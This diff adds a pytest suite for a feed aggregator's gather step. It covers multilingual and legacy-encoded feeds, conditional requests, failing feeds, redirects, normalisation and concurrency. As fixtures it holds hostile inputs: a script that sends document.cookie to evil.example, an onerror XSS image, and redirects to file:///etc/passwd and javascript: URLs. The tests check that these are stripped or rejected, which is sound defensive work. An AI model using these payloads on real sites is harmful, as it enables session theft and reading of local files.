@@ -1,0 +1,621 @@
+"""digest.gather against a real FeedServer on 127.0.0.1 and a real SQLite store.
+
+Every failure case is served next to a healthy feed: the healthy feed's posts
+must still be stored, the failing URL must be named in `summary_lines()` and
+counted in the store, run after run.
+"""
+
+from __future__ import annotations
+
+import gzip
+import logging
+import socket
+import time
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+from xml.sax.saxutils import escape
+
+import httpx
+import pytest
+
+from digest.config import Settings, parse_settings
+from digest.feedserver import FeedServer, Route
+from digest.gather import FAILED, NOT_MODIFIED, OK, GatherReport, gather
+from digest.models import Post
+from digest.store import Store
+
+pytestmark = pytest.mark.network
+
+NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
+DATA = Path(__file__).parent / "data" / "feedparser"
+RSS = "application/rss+xml; charset=utf-8"
+ATOM = "application/atom+xml; charset=utf-8"
+
+
+# -- helpers -------------------------------------------------------------------
+
+
+def rss(
+    title: str, items: list[dict[str, str]], language: str = "", encoding: str = "utf-8"
+) -> str:
+    lang = f"<language>{language}</language>" if language else ""
+    body = "".join(
+        "<item>" + "".join(f"<{k}>{escape(v)}</{k}>" for k, v in item.items()) + "</item>"
+        for item in items
+    )
+    return (
+        f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
+        f"<title>{escape(title)}</title><link>https://example.org/</link>{lang}{body}"
+        "</channel></rss>\n"
+    )
+
+
+def item(n: int, title: str, **extra: str) -> dict[str, str]:
+    fields = {
+        "title": title,
+        "link": f"https://example.org/posts/{n}",
+        "guid": f"https://example.org/posts/{n}",
+        "pubDate": f"Sun, 01 Mar 2026 {n % 24:02d}:00:00 +0000",
+        "description": f"<p>Summary {n} of <b>{title}</b></p>",
+    }
+    fields.update(extra)
+    return fields
+
+
+GOOD = rss("Good feed", [item(1, "Good one"), item(2, "Good two")], language="en").encode()
+
+JAPANESE = rss(
+    "AI ニュース",
+    [item(10, "東京のスタートアップが日本語LLMを公開"), item(11, "経産省、生成AIの指針を改定")],
+    language="ja",
+).encode()
+KOREAN = rss(
+    "AI 뉴스",
+    [item(20, "삼성전자, HBM4 양산 앞당긴다"), item(21, "네이버, 하이퍼클로바X 공개")],
+    language="ko-KR",
+).encode()
+ENGLISH = rss(
+    "Asia AI",
+    [item(30, "Singapore opens a generative AI sandbox"), item(31, "Bengaluru data centres")],
+    language="en-US",
+).encode()
+CHINESE_ATOM = (
+    '<?xml version="1.0" encoding="utf-8"?>\n'
+    '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="zh-CN">'
+    "<title>人工智能</title><id>urn:zh</id><updated>2026-03-01T00:00:00Z</updated>"
+    '<link href="https://example.cn/"/>'
+    "<entry><title>深圳机器人企业完成融资</title><id>urn:zh:1</id>"
+    '<link href="https://example.cn/p/1"/><updated>2026-03-01T10:00:00+08:00</updated>'
+    '<summary type="html">&lt;p&gt;多家&lt;b&gt;机器人&lt;/b&gt;企业&lt;/p&gt;</summary></entry>'
+    "<entry><title>香港推出生成式人工智能沙盒</title><id>urn:zh:2</id>"
+    '<link href="https://example.cn/p/2"/><updated>2026-03-01T11:00:00+08:00</updated></entry>'
+    "</feed>\n"
+).encode()
+
+
+def make_settings(urls: list[str], **gather_options: Any) -> Settings:
+    options: dict[str, Any] = {"timeout": 5.0}
+    options.update(gather_options)
+    return parse_settings(
+        {"feeds": [{"url": u} for u in urls], "gather": options}, Path("test.toml")
+    )
+
+
+def all_posts(store: Store) -> list[Post]:
+    return store.posts_between(datetime(1970, 1, 2, tzinfo=UTC), datetime(2200, 1, 1, tzinfo=UTC))
+
+
+def by_url(report: GatherReport) -> dict[str, Any]:
+    return {r.url: r for r in report.results}
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> Iterator[Store]:
+    with Store(tmp_path / "db.sqlite3") as s:
+        yield s
+
+
+@pytest.fixture
+def server() -> Iterator[FeedServer]:
+    with FeedServer() as s:
+        yield s
+
+
+def closed_port() -> int:
+    """A loopback port with nothing listening (connections are refused)."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+# -- the happy path --------------------------------------------------------------
+
+
+def test_feeds_in_four_languages_are_stored(server: FeedServer, store: Store) -> None:
+    server["/ja.xml"] = Route(JAPANESE)
+    server["/ko.xml"] = Route(KOREAN)
+    server["/en.xml"] = Route(ENGLISH)
+    server["/zh.atom"] = Route(CHINESE_ATOM, content_type=ATOM)
+    urls = [server.url(p) for p in ("/ja.xml", "/ko.xml", "/en.xml", "/zh.atom")]
+
+    report = gather(make_settings(urls, user_agent="digest-test/1.0"), store, NOW)
+
+    assert [r.status for r in report.results] == [OK] * 4
+    assert [r.url for r in report.results] == urls  # config order
+    assert [r.entries for r in report.results] == [2, 2, 2, 2]
+    assert report.new_posts == 8 and store.count_posts() == 8
+    assert [r.title for r in report.results] == ["AI ニュース", "AI 뉴스", "Asia AI", "人工智能"]
+    assert not report.failed and not report.all_failed
+    assert all(r.seconds > 0 and r.error is None and r.warning is None for r in report.results)
+
+    posts = {p.title: p for p in all_posts(store)}
+    ja = posts["東京のスタートアップが日本語LLMを公開"]
+    assert ja.language == "ja" and ja.feed_url == urls[0]
+    assert ja.summary == "Summary 10 of 東京のスタートアップが日本語LLMを公開"
+    assert ja.published == datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
+    assert posts["삼성전자, HBM4 양산 앞당긴다"].language == "ko-kr"
+    assert posts["Singapore opens a generative AI sandbox"].language == "en-us"
+    zh = posts["深圳机器人企业完成融资"]
+    assert (zh.language, zh.summary, zh.url) == (
+        "zh-cn",
+        "多家机器人企业",
+        "https://example.cn/p/1",
+    )
+    assert zh.published == datetime(2026, 3, 1, 2, 0, tzinfo=UTC)
+
+    assert {h["user-agent"] for _, h in server.request_headers} == {"digest-test/1.0"}
+    assert store.feed_state(urls[0]).title == "AI ニュース"
+    assert report.summary_lines() == [
+        "4 feeds: 4 fetched, 0 not modified, 0 failed; 8 entries, 8 new posts"
+    ]
+
+
+def test_second_run_is_conditional_and_idempotent(server: FeedServer, store: Store) -> None:
+    server["/ja.xml"] = Route(JAPANESE)
+    server["/zh.atom"] = Route(CHINESE_ATOM, content_type=ATOM)
+    urls = [server.url("/ja.xml"), server.url("/zh.atom")]
+    settings = make_settings(urls)
+
+    first = gather(settings, store, NOW)
+    assert first.new_posts == 4
+    states = {u: store.feed_state(u) for u in urls}
+    assert states[urls[0]].etag == server["/ja.xml"].etag
+    assert states[urls[0]].last_modified
+
+    server.reset_log()
+    second = gather(settings, store, NOW)
+    assert [r.status for r in second.results] == [NOT_MODIFIED, NOT_MODIFIED]
+    assert second.new_posts == 0 and [r.entries for r in second.results] == [0, 0]
+    assert store.count_posts() == 4
+    assert sorted(status for _, _, status in server.requests) == [304, 304]
+    sent = dict(server.request_headers)
+    assert sent["/ja.xml"]["if-none-match"] == states[urls[0]].etag
+    assert sent["/ja.xml"]["if-modified-since"] == states[urls[0]].last_modified
+    for url in urls:  # a 304 keeps the validators
+        after = store.feed_state(url)
+        assert (after.etag, after.last_modified) == (states[url].etag, states[url].last_modified)
+        assert after.failures == 0
+    assert not second.all_failed
+    assert second.summary_lines()[-1].startswith("2 feeds: 0 fetched, 2 not modified, 0 failed")
+
+    # The feed changes: one new entry, new validators stored, the other stays 304.
+    changed = rss("AI ニュース", [item(12, "大阪で自動運転の実証実験"), item(10, "東京の…")])
+    server["/ja.xml"] = Route(changed.encode())
+    third = gather(settings, store, NOW)
+    assert [r.status for r in third.results] == [OK, NOT_MODIFIED]
+    assert third.new_posts == 1 and store.count_posts() == 5
+    assert store.feed_state(urls[0]).etag == server["/ja.xml"].etag != states[urls[0]].etag
+    # A post seen again follows the feed's edits (title) but keeps its identity.
+    titles = {p.post_id: p.title for p in all_posts(store)}
+    assert titles["https://example.org/posts/10"] == "東京の…"
+
+
+def test_feed_without_validators_is_refetched_but_not_duplicated(
+    server: FeedServer, store: Store
+) -> None:
+    server["/plain.xml"] = Route(KOREAN, validators=False)
+    settings = make_settings([server.url("/plain.xml")])
+    assert gather(settings, store, NOW).new_posts == 2
+    again = gather(settings, store, NOW)
+    assert again.results[0].status == OK and again.results[0].entries == 2
+    assert again.new_posts == 0 and store.count_posts() == 2
+    assert "if-none-match" not in server.request_headers[-1][1]
+
+
+@pytest.mark.parametrize(
+    ("encoding", "header"),
+    [
+        ("Shift_JIS", "application/rss+xml"),
+        ("EUC-JP", "application/xml"),
+        ("EUC-KR", "application/rss+xml"),
+        ("GB2312", "application/rss+xml"),
+        ("Big5", "application/rss+xml"),
+        ("Shift_JIS", "text/xml; charset=Shift_JIS"),  # declared by HTTP as well
+    ],
+)
+def test_legacy_cjk_encodings_declared_correctly(
+    server: FeedServer, store: Store, encoding: str, header: str
+) -> None:
+    titles = {
+        "Shift_JIS": "東京のAI企業、資金調達",
+        "EUC-JP": "大阪で自動運転の実証",
+        "EUC-KR": "서울 AI 반도체 투자",
+        "GB2312": "深圳人工智能产业集群",
+        "Big5": "香港人工智慧沙盒",
+    }
+    title = titles[encoding]
+    body = rss("legacy", [item(1, title)], encoding=encoding).encode(encoding)
+    server["/legacy.xml"] = Route(body, content_type=header)
+    report = gather(make_settings([server.url("/legacy.xml")]), store, NOW)
+    assert report.results[0].status == OK and report.results[0].warning is None
+    assert [p.title for p in all_posts(store)] == [title]
+
+
+def test_feedparser_test_suite_charset_files(server: FeedServer, store: Store) -> None:
+    urls = [u for u in server.serve_directory(DATA) if u.endswith(".xml")]
+    report = by_url(gather(make_settings(urls), store, NOW))
+
+    # Big5 declared correctly, a valid feed with no entries: ok, nothing to store.
+    big5 = report[server.url("/encoding__big5.xml")]
+    assert (big5.status, big5.entries, big5.warning) == (OK, 0, None)
+    # EUC-KR declared correctly; its only entry has neither title nor link.
+    euckr = report[server.url("/encoding__euc-kr-item.xml")]
+    assert (euckr.status, euckr.entries, euckr.new_posts) == (OK, 1, 0)
+    # Undeclared legacy encodings: detected, entries kept, the feed flagged.
+    for name in ("shiftjis", "euckr", "gb2312"):
+        result = report[server.url(f"/illformed__chardet__{name}.xml")]
+        assert result.status == OK and result.new_posts == 1
+        assert result.warning and "ill-formed feed, entries recovered" in result.warning
+        assert "declared as utf-8" in result.warning
+    titles = {p.title for p in all_posts(store)}
+    assert titles == {
+        "DrecomRSSに記事投稿が反映されない…",
+        "EUC-KR 에서 TypeKey 한글닉네임 표시하기",
+        "不归移民漫画系列：专业工作",
+    }
+
+
+# -- failures: each next to a healthy feed --------------------------------------
+
+HTML_PAGE = (
+    b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head>"
+    b"<body><h1>Please sign in</h1><p>This feed has moved.</p></body></html>"
+)
+MAX_BYTES = 64_000
+
+FAILURES: dict[str, tuple[Route, str]] = {
+    "404": (Route(b"not found", status=404, content_type="text/plain"), "HTTP 404 Not Found"),
+    "500": (Route(b"oops", status=500, content_type="text/plain"), "HTTP 500"),
+    "403": (Route(b"", status=403, content_type="text/plain"), "HTTP 403 Forbidden"),
+    "html page": (
+        Route(HTML_PAGE, content_type="text/html; charset=utf-8"),
+        "served an HTML page, not a feed",
+    ),
+    "html page sent as rss": (Route(HTML_PAGE), "served an HTML page, not a feed"),
+    "malformed xml": (
+        Route(b"<?xml version='1.0'?><rss version='2.0'><channel><item><title>x</ti"),
+        "malformed feed, no entries recovered: line 1",
+    ),
+    "xml but not a feed": (
+        Route(b"<?xml version='1.0'?><settings><a/></settings>", content_type="application/xml"),
+        "not an RSS or Atom feed",
+    ),
+    "json": (Route(b'{"items": []}', content_type="application/json"), "malformed feed"),
+    "empty body": (Route(b""), "empty body"),
+    "blank body": (Route(b" \r\n\t\n"), "empty body"),
+    "oversize by content-length": (
+        Route(rss("big", [item(i, "x" * 200) for i in range(400)]).encode()),
+        f"response larger than {MAX_BYTES} bytes",
+    ),
+    "oversize after decompression": (
+        Route(
+            gzip.compress(GOOD[:-20] + b" " * 2_000_000 + GOOD[-20:]),
+            headers={"Content-Encoding": "gzip"},
+        ),
+        f"response larger than {MAX_BYTES} bytes",
+    ),
+    "redirect to file:": (
+        Route(b"", status=302, headers={"Location": "file:///etc/passwd"}),
+        "redirected to a non-http(s) URL: file:///etc/passwd",
+    ),
+    "redirect to javascript:": (
+        Route(b"", status=301, headers={"Location": "javascript:alert(1)"}),
+        "redirected to a non-http(s) URL",
+    ),
+    "redirect to ftp:": (
+        Route(b"", status=307, headers={"Location": "ftp://127.0.0.1/feed.xml"}),
+        "redirected to a non-http(s) URL",
+    ),
+    "redirect loop": (
+        Route(b"", status=302, headers={"Location": "/bad"}),
+        "too many redirects (more than 2)",
+    ),
+    "feedparser crashes": (  # a real feedparser bug: a lone surrogate character reference
+        Route(b'<rss version="2.0"><channel><item><title>a &#xD800; b</title></item></channel>'),
+        "unexpected error: UnicodeEncodeError",
+    ),
+    "timeout": (Route(GOOD, delay=3.0), "timed out after 0.5 s"),
+}
+
+
+@pytest.mark.parametrize("case", list(FAILURES))
+def test_one_failing_feed_never_stops_the_others(
+    server: FeedServer, store: Store, case: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    route, reason = FAILURES[case]
+    server["/good.xml"] = Route(GOOD)
+    server["/bad"] = route
+    good, bad = server.url("/good.xml"), server.url("/bad")
+    timeout = 0.5 if case == "timeout" else 5.0
+    settings = make_settings([bad, good], timeout=timeout, max_bytes=MAX_BYTES, max_redirects=2)
+
+    with caplog.at_level(logging.WARNING, logger="digest.gather"):
+        started = time.monotonic()
+        report = gather(settings, store, NOW)
+        elapsed = time.monotonic() - started
+
+    results = by_url(report)
+    assert results[good].status == OK and results[good].new_posts == 2
+    assert store.count_posts() == 2  # the healthy feed's posts are stored
+    failed = results[bad]
+    assert failed.status == FAILED
+    assert failed.error is not None and reason in failed.error
+    assert "Traceback" not in failed.error
+    assert (failed.entries, failed.new_posts, failed.title) == (0, 0, "")
+    assert report.failed == [failed] and report.ok == [results[good]]
+    assert not report.all_failed
+    lines = report.summary_lines()
+    assert any(bad in line and reason in line for line in lines), lines
+    assert "1 failed" in lines[-1]
+    assert any(bad in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)
+    state = store.feed_state(bad)
+    assert state.failures == 1 and state.last_error and reason in state.last_error
+    assert store.feed_state(good).failures == 0
+    if case == "timeout":
+        assert elapsed < 2.5  # the slow server was not waited for
+
+    # The next run fails again: consecutive failures are counted.
+    again = gather(settings, store, NOW)
+    assert by_url(again)[bad].status == FAILED
+    assert store.feed_state(bad).failures == 2
+    assert store.count_posts() == 2
+
+
+def test_connection_refused_is_a_failure(server: FeedServer, store: Store) -> None:
+    server["/good.xml"] = Route(GOOD)
+    refused = f"http://127.0.0.1:{closed_port()}/feed.xml"
+    report = gather(make_settings([refused, server.url("/good.xml")]), store, NOW)
+    results = by_url(report)
+    assert results[refused].status == FAILED
+    assert results[refused].error and results[refused].error.startswith("cannot connect")
+    assert any(refused in line for line in report.summary_lines())
+    assert store.count_posts() == 2
+    assert store.feed_state(refused).failures == 1
+
+
+def test_body_naming_a_local_file_is_not_read(
+    server: FeedServer, store: Store, tmp_path: Path
+) -> None:
+    # feedparser, handed a bare string or bytes, tries it as a file path first.
+    secret = tmp_path / "secret-feed.xml"
+    secret.write_bytes(rss("local", [item(1, "LOCAL SECRET")]).encode())
+    server["/path.xml"] = Route(str(secret).encode())
+    report = gather(make_settings([server.url("/path.xml")]), store, NOW)
+    assert report.results[0].status == FAILED
+    assert store.count_posts() == 0
+
+
+def test_all_failed_only_when_there_were_feeds_and_every_one_failed(
+    server: FeedServer, store: Store
+) -> None:
+    server["/404.xml"] = Route(b"", status=404)
+    server["/empty.xml"] = Route(b"")
+    server["/good.xml"] = Route(GOOD)
+    bad = [server.url("/404.xml"), server.url("/empty.xml")]
+
+    every = gather(make_settings(bad), store, NOW)
+    assert every.all_failed and len(every.failed) == 2 and every.ok == []
+    assert [line.split()[1].rstrip(":") for line in every.summary_lines()[:2]] == bad
+
+    assert not gather(make_settings([*bad, server.url("/good.xml")]), store, NOW).all_failed
+    none = gather(make_settings([]), store, NOW)
+    assert none.results == () and not none.all_failed and none.new_posts == 0
+    assert none.summary_lines() == [
+        "0 feeds: 0 fetched, 0 not modified, 0 failed; 0 entries, 0 new posts"
+    ]
+    # A run where nothing changed is not a failure.
+    gather(make_settings([server.url("/good.xml")]), store, NOW)
+    unchanged = gather(make_settings([server.url("/good.xml")]), store, NOW)
+    assert unchanged.results[0].status == NOT_MODIFIED and not unchanged.all_failed
+
+
+# -- documents that are odd but usable ---------------------------------------------
+
+
+def test_ill_formed_feed_with_entries_is_kept_with_a_warning(
+    server: FeedServer, store: Store, caplog: pytest.LogCaptureFixture
+) -> None:
+    broken = (
+        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Sloppy</title>'
+        b"<item><title>First</title><link>https://sloppy.example/1</link></item>"
+        b"<item><title>Second &nbsp; entity</title><link>https://sloppy.example/2</link></item>"
+        b"</channel>"  # no </rss>, and &nbsp; is not an XML entity
+    )
+    server["/sloppy.xml"] = Route(broken)
+    url = server.url("/sloppy.xml")
+    with caplog.at_level(logging.WARNING, logger="digest.gather"):
+        report = gather(make_settings([url]), store, NOW)
+    [result] = report.results
+    assert result.status == OK and result.entries == 2 and result.new_posts == 2
+    assert result.warning and result.warning.startswith("ill-formed feed, entries recovered")
+    assert "undefined entity" in result.warning
+    assert any(url in line and "ill-formed" in line for line in report.summary_lines())
+    assert any(url in r.getMessage() and "ill-formed" in r.getMessage() for r in caplog.records)
+    assert store.feed_state(url).failures == 0
+
+
+def test_valid_feed_with_no_entries_is_ok(server: FeedServer, store: Store) -> None:
+    server["/quiet.xml"] = Route(rss("Quiet", []).encode())
+    [result] = gather(make_settings([server.url("/quiet.xml")]), store, NOW).results
+    assert (result.status, result.entries, result.warning, result.title) == (OK, 0, None, "Quiet")
+
+
+def test_redirects_within_the_limit_are_followed(server: FeedServer, store: Store) -> None:
+    feed = rss("Moved", [item(1, "Relative", link="posts/1.html", guid="p1")]).encode()
+    server["/a"] = Route(b"", status=301, headers={"Location": "/b"})
+    server["/b"] = Route(b"", status=308, headers={"Location": server.url("/new/feed.xml")})
+    server["/new/feed.xml"] = Route(feed)
+    server["/temp"] = Route(b"", status=302, headers={"Location": "new/feed.xml"})
+    urls = [server.url("/a"), server.url("/temp")]
+    report = by_url(gather(make_settings(urls, max_redirects=2), store, NOW))
+
+    moved, temporary = report[urls[0]], report[urls[1]]
+    assert moved.status == OK and temporary.status == OK
+    assert moved.warning == f"moved permanently to {server.url('/new/feed.xml')}; update the config"
+    assert temporary.warning is None  # a temporary redirect is not a reason to edit the config
+    # Relative links resolve against the final URL, not the configured one.
+    urls_stored = {p.url for p in all_posts(store)}
+    assert urls_stored == {server.url("/new/posts/1.html")}
+
+
+# -- what ends up in the store ------------------------------------------------------
+
+
+def test_entries_are_normalised_on_the_way_in(
+    server: FeedServer, store: Store, caplog: pytest.LogCaptureFixture
+) -> None:
+    hostile = (
+        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+        "<style>body{display:none}</style><img src=x onerror=alert(1)>"
+        "<p>Visible <b>text</b></p><!-- secret comment -->"
+    )
+    items = [
+        item(
+            1,
+            "Line one\r\nline two\rline three",
+            link="https://news.example/a?utm_source=rss&id=7&fbclid=X#frag",
+        ),
+        item(2, "Relative link", link="../articles/2.html"),
+        {"title": "No date at all", "link": "https://news.example/3"},
+        item(4, "From the future", pubDate="Tue, 01 Jan 2036 00:00:00 +0000"),
+        item(5, "Hostile summary", description=hostile),
+    ]
+    server["/feeds/main.xml"] = Route(rss("Normalise me", items).encode())
+    url = server.url("/feeds/main.xml")
+    with caplog.at_level(logging.WARNING):
+        report = gather(make_settings([url]), store, NOW)
+    assert report.results[0].new_posts == 5
+    posts = {p.post_id: p for p in all_posts(store)}
+
+    crlf = posts["https://example.org/posts/1"]
+    assert crlf.title == "Line one line two line three"
+    assert crlf.url == "https://news.example/a?id=7"
+    assert posts["https://example.org/posts/2"].url == server.url("/articles/2.html")
+    undated = posts["https://news.example/3"]  # no guid: the canonical link is the id
+    assert undated.published == NOW and undated.date_from_feed is False
+    future = posts["https://example.org/posts/4"]
+    assert future.published == NOW and future.date_from_feed is False
+    assert any(url in r.getMessage() and "future" in r.getMessage() for r in caplog.records)
+    clean = posts["https://example.org/posts/5"]
+    assert clean.summary == "Visible text"
+    for post in posts.values():
+        assert "\n" not in post.title and "\r" not in post.title
+        assert "evil" not in post.summary and "script" not in post.summary
+        assert "<" not in post.summary and "display" not in post.summary
+
+
+# -- concurrency and the parser pool ---------------------------------------------
+
+
+def test_feeds_are_fetched_concurrently_within_the_limit(server: FeedServer, store: Store) -> None:
+    for n in range(6):
+        server[f"/slow{n}.xml"] = Route(
+            rss(f"slow {n}", [item(n, f"post {n}")]).encode(), delay=0.3
+        )
+    urls = [server.url(f"/slow{n}.xml") for n in range(6)]
+
+    started = time.monotonic()
+    report = gather(make_settings(urls, concurrency=6), store, NOW)
+    assert time.monotonic() - started < 1.2  # one after another would take 1.8 s
+    assert len(report.ok) == 6 and server.max_in_flight == 6
+
+    server.reset_log()
+    started = time.monotonic()
+    gather(make_settings(urls, concurrency=2), store, NOW)  # all 304 now, still slow
+    assert time.monotonic() - started >= 0.85  # three rounds of two
+    assert server.max_in_flight == 2
+
+
+@pytest.mark.parametrize("workers", [0, 2])
+def test_parsing_inline_or_in_worker_processes_gives_the_same_result(
+    server: FeedServer, tmp_path: Path, caplog: pytest.LogCaptureFixture, workers: int
+) -> None:
+    urls = []
+    for n in range(9):
+        server[f"/f{n}.xml"] = Route(
+            rss(f"feed {n}", [item(n * 10 + i, f"p{n}-{i}") for i in range(3)]).encode()
+        )
+        urls.append(server.url(f"/f{n}.xml"))
+    server["/future.xml"] = Route(
+        rss("future", [item(99, "ahead", pubDate="Tue, 01 Jan 2036 00:00:00 +0000")]).encode()
+    )
+    server["/crash.xml"] = FAILURES["feedparser crashes"][0]
+    urls += [server.url("/future.xml"), server.url("/crash.xml")]
+
+    with Store(tmp_path / f"pool{workers}.sqlite3") as store, caplog.at_level(logging.WARNING):
+        report = gather(make_settings(urls), store, NOW, parse_workers=workers)
+        posts = all_posts(store)
+    results = by_url(report)
+    assert report.new_posts == 28 and len(posts) == 28
+    assert results[server.url("/crash.xml")].status == FAILED
+    assert "unexpected error: UnicodeEncodeError" in (results[server.url("/crash.xml")].error or "")
+    assert [r.title for r in report.results[:3]] == ["feed 0", "feed 1", "feed 2"]
+    # Log lines written while parsing (in a worker or not) reach this process's logging.
+    future_logs = [r for r in caplog.records if "future" in r.getMessage()]
+    assert len(future_logs) == 1 and server.url("/future.xml") in future_logs[0].getMessage()
+    assert future_logs[0].name == "digest.normalize"
+    crash_logs = [r for r in caplog.records if server.url("/crash.xml") in r.getMessage()]
+    assert crash_logs
+
+
+# -- the test server itself ------------------------------------------------------
+
+
+def test_feed_server_answers_conditional_requests(tmp_path: Path) -> None:
+    with FeedServer(delay=0.2) as server, httpx.Client() as client:
+        server["/f.xml"] = Route(GOOD)
+        url = server.url("/f.xml")
+        first = client.get(url)
+        assert first.status_code == 200 and first.content == GOOD
+        etag, modified = first.headers["etag"], first.headers["last-modified"]
+        assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
+        assert client.get(url, headers={"If-None-Match": '"other"'}).status_code == 200
+        assert client.get(url, headers={"If-Modified-Since": modified}).status_code == 304
+        older = "Mon, 01 Jan 2001 00:00:00 GMT"
+        assert client.get(url, headers={"If-Modified-Since": older}).status_code == 200
+        # If-None-Match decides alone when both are sent (RFC 9110).
+        both = {"If-None-Match": '"other"', "If-Modified-Since": modified}
+        assert client.get(url, headers=both).status_code == 200
+        started = time.monotonic()
+        assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
+        assert time.monotonic() - started >= 0.2  # the global delay applies to 304s too
+        assert client.head(url).status_code == 200
+        assert client.get(server.url("/missing")).status_code == 404
+        assert server.hits("/f.xml") == [200, 304, 200, 304, 200, 200, 304, 200]
+        assert len(server.requests) == 9
+
+        (tmp_path / "sub").mkdir()
+        (tmp_path / "a.xml").write_bytes(GOOD)
+        (tmp_path / "sub" / "b.atom").write_bytes(CHINESE_ATOM)
+        urls = server.serve_directory(tmp_path, prefix="/dir")
+        assert urls == [server.url("/dir/a.xml"), server.url("/dir/sub/b.atom")]
+        answer = client.get(urls[1])
+        assert answer.content == CHINESE_ATOM
+        assert answer.headers["content-type"] == "application/atom+xml"
+
+
+def test_now_must_be_aware(store: Store) -> None:
+    with pytest.raises(ValueError, match="aware"):
+        gather(make_settings([]), store, datetime(2026, 3, 2))
